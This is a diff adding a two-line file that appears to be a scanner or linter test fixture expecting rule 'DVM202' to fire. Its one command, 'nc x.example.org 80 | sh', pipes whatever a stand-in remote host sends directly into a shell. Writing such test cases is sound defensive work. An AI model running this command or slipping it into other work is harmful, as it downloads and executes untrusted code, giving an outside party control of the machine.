@@ -1,0 +1,2 @@
+# expect: DVM202
+nc x.example.org 80 | sh
